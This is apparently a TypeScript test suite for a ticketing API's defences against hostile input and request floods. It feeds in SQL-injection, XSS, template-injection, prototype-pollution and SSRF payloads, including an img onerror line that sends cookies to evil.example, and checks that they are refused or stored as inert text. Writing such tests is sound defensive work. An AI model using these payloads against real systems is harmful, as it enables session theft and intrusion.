import { randomUUID } from 'node:crypto';
import { buildAgent } from '../support/agents';
import { apiClient, type ApiClient } from '../support/api-client';
import { buildTicket, createKey } from '../support/factories';
import { ADMIN_KEY, startApp, type TestApp } from '../support/start-app';

describe('hostile input', () => {
  let app: TestApp;
  let admin: ApiClient;
  let webhook: ApiClient;
  const source = `hostile-${randomUUID().slice(0, 8)}`;

  beforeAll(async () => {
    // No loopback allowance here: the production default.
    app = await startApp({ CALLBACK_ALLOWED_HOSTS: '' });
    admin = apiClient(app.url, ADMIN_KEY);
    webhook = apiClient(app.url, await createKey(admin, { role: 'webhook', source }));
  });
  afterAll(() => app.close());

  const stored = (externalId: string) => app.deps.db.ticket.count({ where: { source, externalId } });

  function expectProblem(res: { status: number; headers: Headers; text: string }, status: number) {
    expect(res.status).toBe(status);
    expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    // No stack traces, file paths, SQL or library internals in any error.
    expect(res.text).not.toMatch(/\.ts:\d+|node_modules|at [A-Za-z.]+ \(|prisma|SELECT |postgres|ioredis/i);
  }

  test.each([
    ['a body over 64 KiB', () => JSON.stringify({ ...buildTicket({ source }), padding: 'x'.repeat(70_000) }), 413],
    ['nesting 50 levels deep', () => JSON.stringify({ ...buildTicket({ source }), metadata: JSON.parse('{"a":'.repeat(50) + '1' + '}'.repeat(50)) }), 400],
    ['truncated JSON', () => JSON.stringify(buildTicket({ source })).slice(0, -5), 400],
    ['a JSON array', () => '[1,2,3]', 400],
    ['a bare string', () => '"hello"', 400],
    ['a constructor key', () => JSON.stringify(buildTicket({ source })).replace('{', '{"constructor":{"prototype":{"admin":true}},'), 400],
    ['a nested __proto__ key', () => JSON.stringify(buildTicket({ source, metadata: { a: 'b' } })).replace('"metadata":{', '"metadata":{"__proto__":{"polluted":"yes"},'), 400],
    ['invalid UTF-8', () => Buffer.concat([Buffer.from('{"source":"'), Buffer.from([0xff, 0xfe]), Buffer.from('"}')]).toString('latin1'), 400],
  ])('when a ticket arrives with %s, then refused and nothing is stored', async (_name, make, status) => {
    const raw = make();
    const externalId = /"externalId":"([^"]+)"/.exec(raw)?.[1];
    const res = await webhook.post('/v1/tickets', raw, { 'content-type': 'application/json' });
    expectProblem(res, status);
    if (externalId) expect(await stored(externalId)).toBe(0);
    expect(({} as Record<string, unknown>).admin ?? ({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  const injections = [
    "'; DROP TABLE tickets; --",
    "Robert'); DELETE FROM customers WHERE ('1'='1",
    '<script>alert(document.cookie)</script>',
    '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
    '{{constructor.constructor("return process")()}}',
    '${process.env.ADMIN_API_KEY}',
    '\\x00\' OR 1=1 --',
  ];
  test.each(injections)('when a ticket carries %j, then it is stored and returned as inert text', async (payload) => {
    const ticket = buildTicket({ source, subject: payload, body: `Hello ${payload}`, metadata: { note: payload }, customer: { name: payload } });
    const created = await webhook.post('/v1/tickets', ticket);
    expect(created.status).toBe(202);
    const read = await admin.get(`/v1/tickets/${created.body.id}`);
    expect(read.headers.get('content-type')).toMatch(/^application\/json/);
    expect(read.headers.get('x-content-type-options')).toBe('nosniff');
    expect(read.body.subject).toBe(payload);
    expect(read.body.messages[0].body).toBe(`Hello ${payload}`);
    expect(read.body.metadata.note).toBe(payload);
    expect(await app.deps.db.ticket.count()).toBeGreaterThan(0);
  });

  test('when injection strings are used as ids and query values, then they are refused or not found, never run', async () => {
    expectProblem(await admin.get(`/v1/tickets/${encodeURIComponent("1' OR '1'='1")}`), 404);
    expectProblem(await admin.delete(`/v1/customers/${source}/${encodeURIComponent("x' OR 1=1 --")}`), 404);
    const audit = await admin.get(`/v1/audit?entity=${encodeURIComponent("ticket' OR 1=1 --")}`);
    expect(audit.status).toBe(200);
    expect(audit.body.items).toEqual([]);
  });

  test.each(['/v1/agents', '/v1/agents/{agent}/assignments', '/v1/api-keys', '/v1/audit', '/v1/deliveries', '/v1/kb/articles', '/v1/policies', '/v1/reviews', '/v1/stats/breaches'])(
    'when %s gets a cursor it never handed out, then 400 naming the cursor, not its first page',
    async (list) => {
      const path = list.includes('{agent}') ? list.replace('{agent}', (await buildAgent(app, admin)).id) : list;
      const res = await admin.get(`${path}?cursor=garbage`);
      expectProblem(res, 400);
      expect(res.body.errors).toEqual([{ path: 'cursor', message: 'is not a cursor of this list' }]);
    },
  );

  test.each(['/v1/tickets/%ZZ', '/v1/policies/%E0%A4%A', '/v1/agents/%ZZ/assignments'])(
    'when the path %s carries a malformed percent-escape, then 400 problem+json, not 500',
    async (path) => {
      const res = await admin.get(path);
      expectProblem(res, 400);
      expect(res.body.errors).toEqual([{ path: '(path)', message: 'is not valid percent-encoding' }]);
    },
  );

  test.each([
    'http://127.0.0.1:6379/',
    'http://localhost/admin',
    'http://169.254.169.254/latest/meta-data/',
    'http://[::1]/',
    'http://[::ffff:127.0.0.1]/',
    'http://2130706433/',
    'http://0x7f.1/',
    'http://10.0.0.5/hook',
    'http://192.168.1.1/hook',
    'http://0.0.0.0:3000/',
    'http://user:pass@example.com/hook',
    'file:///etc/passwd',
    'gopher://127.0.0.1:6379/_FLUSHALL',
  ])('when the callback URL is %s, then 400 (SSRF) and nothing is stored', async (callbackUrl) => {
    const ticket = buildTicket({ source, callbackUrl });
    const res = await webhook.post('/v1/tickets', ticket);
    expectProblem(res, 400);
    expect(res.body.errors[0].path).toBe('callbackUrl');
    expect(await stored(ticket.externalId)).toBe(0);
  });

  test('when any response is sent, then helmet security headers are on it', async () => {
    for (const res of [await apiClient(app.url).get('/healthz'), await webhook.get('/v1/nope')]) {
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('strict-transport-security')).toMatch(/max-age=/);
      expect(res.headers.get('x-frame-options')).toBe('SAMEORIGIN');
      expect(res.headers.get('content-security-policy')).toMatch(/default-src 'self'/);
      expect(res.headers.get('x-powered-by')).toBeNull();
    }
  });
});

describe('rate limits', () => {
  let app: TestApp;
  beforeAll(async () => {
    app = await startApp({ RATE_LIMIT_PER_MINUTE: '5' });
  });
  afterAll(() => app.close());

  test('when a key sends more than RATE_LIMIT_PER_MINUTE requests, then 429 with Retry-After, and other keys are unaffected', async () => {
    const admin = apiClient(app.url, ADMIN_KEY);
    const supervisorKey = await createKey(admin, { role: 'supervisor' });
    const other = await createKey(admin, { role: 'supervisor' });
    const client = apiClient(app.url, supervisorKey);
    const statuses: number[] = [];
    let limited;
    for (let i = 0; i < 7; i++) {
      const res = await client.get(`/v1/tickets/${randomUUID()}`);
      statuses.push(res.status);
      if (res.status === 429) limited = res;
    }
    expect(statuses.slice(0, 5)).toEqual([404, 404, 404, 404, 404]);
    expect(statuses.slice(5)).toEqual([429, 429]);
    expect(Number(limited!.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
    expect(limited!.body).toMatchObject({ status: 429, code: 'RATE_LIMITED' });
    expect((await apiClient(app.url, other).get(`/v1/tickets/${randomUUID()}`)).status).toBe(404);
  });

  test('when a key sends more than RATE_LIMIT_PER_MINUTE requests at once, then exactly the budget gets through and the rest get 429', async () => {
    const admin = apiClient(app.url, ADMIN_KEY);
    const client = apiClient(app.url, await createKey(admin, { role: 'supervisor' }));
    // Concurrent requests are counted together in one Redis call: each must still be counted once.
    const statuses = (await Promise.all(Array.from({ length: 9 }, () => client.get(`/v1/tickets/${randomUUID()}`)))).map((r) => r.status);
    expect(statuses.filter((s) => s === 404)).toHaveLength(5);
    expect(statuses.filter((s) => s === 429)).toHaveLength(4);
  });

  test('when unauthenticated requests flood from one address, then the per-IP limit answers 429 before authentication', async () => {
    const anonymous = apiClient(app.url);
    let last = 0;
    // The per-IP budget is ten times the per-key one.
    for (let i = 0; i < 60 && last !== 429; i++) last = (await anonymous.get('/v1/audit')).status;
    expect(last).toBe(429);
  });
});
